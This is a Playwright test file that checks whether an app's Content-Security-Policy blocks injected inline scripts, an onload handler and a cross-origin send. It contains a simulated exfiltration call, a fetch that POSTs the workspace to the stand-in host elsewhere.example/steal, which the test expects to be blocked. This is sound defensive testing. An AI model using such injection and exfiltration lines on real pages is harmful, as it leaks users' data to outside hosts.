import { expect, test } from './fixtures';

/**
 * The Content-Security-Policy of index.html (production build): a script that found its way into
 * the page (through an imported file, say) neither runs nor sends the workspace elsewhere.
 */

declare global {
  interface Window {
    injectedRan?: boolean;
    violations?: string[];
  }
}

test('the Content-Security-Policy blocks an injected inline script and a request to another origin', async ({ workbench, page }) => {
  // Were the request let through, this would answer it: the test would see it reach the route.
  const reached: string[] = [];
  await page.route('http://elsewhere.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ status: 200, body: 'ok', headers: { 'access-control-allow-origin': '*' } });
  });
  await workbench.open();
  await page.evaluate(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => window.violations?.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });

  // An inline script, and an inline event handler, as injected markup would bring them.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injectedRan = true;';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="/favicon.svg" onload="window.injectedRan = true">';
    document.body.append(holder);
  });
  const sent = await page.evaluate(() =>
    fetch('http://elsewhere.example/steal', { method: 'POST', body: 'workspace' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );

  expect(sent).toBe('blocked');
  await expect.poll(() => page.evaluate(() => window.violations)).toEqual(
    expect.arrayContaining([expect.stringMatching(/^script-src-elem inline$/), expect.stringMatching(/^connect-src http:\/\/elsewhere\.example\/steal/)]),
  );
  expect(await page.evaluate(() => window.injectedRan)).toBeUndefined();
  expect(reached).toEqual([]);
  // The app itself runs under the policy unharmed.
  await expect(workbench.documents).toBeVisible();
});
